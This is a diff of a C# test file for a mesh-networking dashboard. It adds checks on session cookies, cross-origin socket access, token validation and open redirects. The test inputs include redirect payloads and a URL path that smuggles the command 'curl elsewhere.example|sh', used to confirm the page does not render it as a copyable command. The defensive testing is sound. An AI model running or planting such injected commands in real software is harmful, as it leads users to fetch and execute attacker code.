@@ -10,6 +10,7 @@ using MeshFabric.Domain.Tunnels;
 using MeshFabric.Net;
 using MeshFabric.Server.Tests.Control;
 using MeshFabric.Server.Tests.Services;
+using MeshFabric.TestKit;
 
 namespace MeshFabric.Server.Tests.Dashboard;
 
@@ -53,7 +54,7 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
     {
         // The API takes no cookie.
         using var client = _service.Client(null);
-        client.DefaultRequestHeaders.Add("Cookie", $"meshfabric-session={_service.AdminToken}");
+        client.DefaultRequestHeaders.Add("Cookie", $"__Host-meshfabric-session={_service.AdminToken}");
         Assert.Equal(HttpStatusCode.Unauthorized, (await client.GetAsync("/api/v1/clusters", Cancel)).StatusCode);
 
         // Forms of other sites begin and end no session.
@@ -68,6 +69,14 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
             Assert.False(answer.Headers.Contains("Set-Cookie"));
         }
 
+        // Nor do their sockets reach a page's.
+        using (var socket = new HttpRequestMessage(HttpMethod.Get, "/_blazor?id=x"))
+        {
+            socket.Headers.Add("Origin", "https://elsewhere.example");
+            socket.Headers.Add("Cookie", $"__Host-meshfabric-session={_service.AdminToken}");
+            Assert.Equal(HttpStatusCode.Forbidden, (await raw.SendAsync(socket, Cancel)).StatusCode);
+        }
+
         // Their own do, and lead to pages of the dashboard only.
         foreach (var (back, to) in new[] { ("/links", "/links"), ("//elsewhere.example", "/"), ("https://elsewhere.example", "/"), ("/\\elsewhere.example", "/"), ("/sign-in", "/") })
         {
@@ -76,9 +85,17 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
             var answer = await raw.SendAsync(request, Cancel);
             Assert.Equal(to, answer.Headers.Location?.ToString());
             var cookie = Assert.Single(answer.Headers.GetValues("Set-Cookie"));
+            Assert.StartsWith("__Host-", cookie, StringComparison.Ordinal);
             Assert.Contains("httponly", cookie, StringComparison.OrdinalIgnoreCase);
             Assert.Contains("secure", cookie, StringComparison.OrdinalIgnoreCase);
             Assert.Contains("samesite=lax", cookie, StringComparison.OrdinalIgnoreCase);
+        }
+
+        // What cannot be a token is none, whatever is in it.
+        foreach (var odd in new[] { "", "a\nb", "ä", new string('x', 300) })
+        {
+            using var request = new HttpRequestMessage(HttpMethod.Post, "/session") { Content = new FormUrlEncodedContent([new("token", odd)]) };
+            Assert.Equal("/sign-in?refused=token&return=%2F", (await raw.SendAsync(request, Cancel)).Headers.Location?.ToString());
         }
 
         using var page = new HttpRequestMessage(HttpMethod.Get, "/sign-in");
@@ -88,27 +105,39 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
     [Fact]
     public async Task The_map_and_the_tables_follow_the_mesh_without_a_reload()
     {
-        var (aurora, borealis) = await TwoClustersAsync();
         await using var tab = await browser.OpenAsync(_service.Url);
+        await using var mesh = await TwoClustersAsync();
         await tab.SignInAsync(_service.AdminToken);
         await tab.SeesAsync("document.querySelectorAll('.topology .place').length === 2 && !!document.querySelector('.topology .link.state-connected')", "two clusters and a link that is connected");
 
-        await ReportAsync(aurora, "borealis", TunnelState.Down);
+        mesh.State = TunnelState.Down;
         await tab.SeesAsync("!!document.querySelector('.topology .link.state-down')", "a link that is down");
         await tab.SeesAsync("tunnel-down");
 
-        // By keyboard alone: the cluster is chosen, the address says so, and its side panel has its links.
-        await tab.Page.FocusAsync(".topology .place[data-cluster=borealis]");
+        // By keyboard alone: the cluster is chosen, the address says so, its side panel has its links, and one goes on to the next.
+        await tab.Page.FocusAsync(".topology .place[data-cluster=aurora]");
         await tab.Page.Keyboard.PressAsync("Enter");
-        await tab.SeesAsync("location.search === '?cluster=borealis' && document.querySelector('.side h2').innerText === 'borealis'", "borealis in the side panel");
-        await ReportAsync(aurora, "borealis", TunnelState.Connected);
+        await tab.SeesAsync("location.search === '?cluster=aurora' && document.querySelector('.side h2').innerText === 'aurora'", "aurora in the side panel");
+        await tab.Page.FocusAsync(".topology .place[data-cluster=aurora]");
+        await tab.Page.Keyboard.PressAsync("Tab");
+        Assert.Equal("borealis", await tab.AskAsync<string>("document.activeElement.dataset.cluster"));
+        mesh.State = TunnelState.Connected;
         await tab.SeesAsync("!!document.querySelector('.side .state-connected') && !!document.querySelector('.topology .link.state-connected')", "the link connected again");
 
-        // A picture that is held stays as it is.
+        // A picture that is held stays as it is, though the API tells another state since long.
         await tab.ClickAsync(".live");
         await tab.SeesAsync("paused");
-        await ReportAsync(borealis, "aurora", TunnelState.Down);
-        await tab.SeesAsync("!!document.querySelector('.topology .link.state-connected')", "the held picture");
+        var held = await tab.AskAsync<string>("document.querySelector('.live').innerText");
+        mesh.State = TunnelState.Down;
+        await Until.TrueAsync(async () => (await _service.Admin.GetFromJsonAsync<Page<LinkResource>>("/api/v1/links", MeshJson.Options, Cancel))!.Items.Single().State == "down", TimeSpan.FromSeconds(30), "the API to tell that the link is down", Cancel);
+        await using (var other = await browser.OpenAsync(_service.Url))
+        {
+            await other.SignInAsync(_service.AdminToken);
+            await other.SeesAsync("!!document.querySelector('.topology .link.state-down')", "the present picture, by somebody else");
+        }
+
+        Assert.True(await tab.AskAsync<bool>("!!document.querySelector('.topology .link.state-connected')"), "the picture was not held");
+        Assert.Equal(held, await tab.AskAsync<string>("document.querySelector('.live').innerText"));
         await tab.ClickAsync(".live");
         await tab.SeesAsync("!!document.querySelector('.topology .link.state-down')", "the present picture");
         await tab.PictureAsync("mesh");
@@ -117,8 +146,8 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
     [Fact]
     public async Task A_cluster_is_told_by_three_facts_and_by_all_that_is_found_of_it()
     {
-        await TwoClustersAsync();
         await using var tab = await browser.OpenAsync(_service.Url);
+        await using var mesh = await TwoClustersAsync();
         await tab.SignInAsync(_service.AdminToken, "/clusters/aurora");
         foreach (var text in new[] { "canal vxlan 3.30.1", "DaemonSet kube-system/canal", "calico", "kube-proxy nftables", "10.10.0.0/16", "192.0.2.1:51820", "masquerades-mesh", "n1", "v1.36.2" })
         {
@@ -132,12 +161,17 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
         await tab.SeesAsync("aurora/gw1");
         await tab.SeesAsync("1420");
         await tab.PictureAsync("link");
+
+        // Whoever was sent an address is not made to copy what stands in it.
+        await tab.GoAsync("/links/x;curl%20elsewhere.example|sh/borealis");
+        await tab.SeesAsync("They have no tunnels");
+        Assert.DoesNotContain("mfctl", await tab.AskAsync<string>("document.querySelector('#content').innerText"), StringComparison.Ordinal);
     }
 
     [Fact]
     public async Task Every_view_is_accessible_and_of_this_service_alone_light_and_dark()
     {
-        await TwoClustersAsync();
+        await using var mesh = await TwoClustersAsync();
         var found = new List<string>();
         foreach (var dark in new[] { false, true })
         {
@@ -198,8 +232,8 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
             (await _service.Admin.PostAsJsonAsync("/api/v1/clusters", new CreateCluster($"cluster-{i:000}", null, spec), MeshJson.Options, Cancel)).EnsureSuccessStatusCode();
         }
 
-        await TwoClustersAsync();
         await using var tab = await browser.OpenAsync(_service.Url);
+        await using var mesh = await TwoClustersAsync();
         await tab.SignInAsync(_service.AdminToken, "/?cluster=aurora");
         await tab.SeesAsync("document.querySelectorAll('.topology .place').length === 302 && document.querySelectorAll('.topology .link').length === 1", "302 clusters, and the one link of aurora");
         await tab.PictureAsync("mesh-300");
@@ -223,9 +257,8 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
         return [.. found.Select(f => $"{what}: {f}")];
     }
 
-    /// <summary>Two clusters that are connected.</summary>
-    /// <returns>Ids of their gateways.</returns>
-    async Task<(string Aurora, string Borealis)> TwoClustersAsync()
+    /// <summary>Two clusters that report as they are told, until that is disposed of: who is not heard of for 45 s is taken for gone.</summary>
+    async Task<TwoClusters> TwoClustersAsync()
     {
         foreach (var (cluster, cidr) in new[] { ("aurora", "10.10.0.0/16"), ("borealis", "10.20.0.0/16") })
         {
@@ -238,13 +271,40 @@ public sealed class DashboardTests(PostgresServer postgres, Browser browser) : I
             "ConfigMap kube-system/canal-config", "ServiceCIDR kubernetes", [new Finding(FindingSeverity.Warning, "masquerades-mesh", "networking", "The plug-in masquerades what leaves the cluster.", "Nothing is to be done: mesh traffic is exempt.")]);
         var inventory = new ClusterInventory(ClusterKind.Kubernetes, new ClusterLocation("aws", "eu-west-1", "a"), [new("env", "test")], [Cidr.Parse("10.10.0.0/16")], [Cidr.Parse("10.96.0.0/16")], "v1.36.2", [new NodeInventory("n1", true, ["192.0.2.1"], [Cidr.Parse("10.10.0.0/24")], "a", "v1.36.2")]) { Networking = networking };
         await _service.Inbox.OnInventoryReportedAsync(aurora, new InventoryReported(inventory), Cancel);
-        await ReportAsync(aurora, "borealis", TunnelState.Connected);
-        await ReportAsync(borealis, "aurora", TunnelState.Connected);
-        return (aurora, borealis);
+        return new TwoClusters(_service, aurora, borealis);
     }
 
     async Task<string> GatewayAsync(string cluster) => (string)(await PostgresServer.QueryAsync(_service.Database, $"SELECT g.id FROM gateways g JOIN clusters c ON c.id = g.cluster_id WHERE c.name = '{cluster}'", Cancel))!;
 
-    Task ReportAsync(string gateway, string peer, TunnelState state) =>
-        _service.Inbox.OnGatewayReportedAsync(gateway, new GatewayReported("test", "kernel", 1, 1, true, [new TunnelReport("mf0", peer, "gw1", state, UdpEndpoint.Parse("192.0.2.1:51820"), DateTimeOffset.UtcNow, 0.0123, 0, 4096, 8192) { MtuBytes = 1420, JitterSeconds = 0.0004 }], [], null), Cancel);
+    sealed class TwoClusters : IAsyncDisposable
+    {
+        readonly CancellationTokenSource _stop = new();
+        readonly Task _reporting;
+
+        public TwoClusters(ControlService service, string aurora, string borealis) => _reporting = ReportAsync(service, aurora, borealis);
+
+        /// <summary>Of their tunnel.</summary>
+        public TunnelState State { get; set; } = TunnelState.Connected;
+
+        async Task ReportAsync(ControlService service, string aurora, string borealis)
+        {
+            while (!_stop.IsCancellationRequested)
+            {
+                foreach (var (gateway, peer) in new[] { (aurora, "borealis"), (borealis, "aurora") })
+                {
+                    var tunnel = new TunnelReport("mf0", peer, "gw1", State, UdpEndpoint.Parse("192.0.2.1:51820"), DateTimeOffset.UtcNow, 0.0123, 0, 4096, 8192) { MtuBytes = 1420, JitterSeconds = 0.0004 };
+                    await service.Inbox.OnGatewayReportedAsync(gateway, new GatewayReported("test", "kernel", 1, 1, true, [tunnel], [], null), CancellationToken.None);
+                }
+
+                await Task.Delay(250, _stop.Token).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
+            }
+        }
+
+        public async ValueTask DisposeAsync()
+        {
+            await _stop.CancelAsync();
+            await _reporting;
+            _stop.Dispose();
+        }
+    }
 }
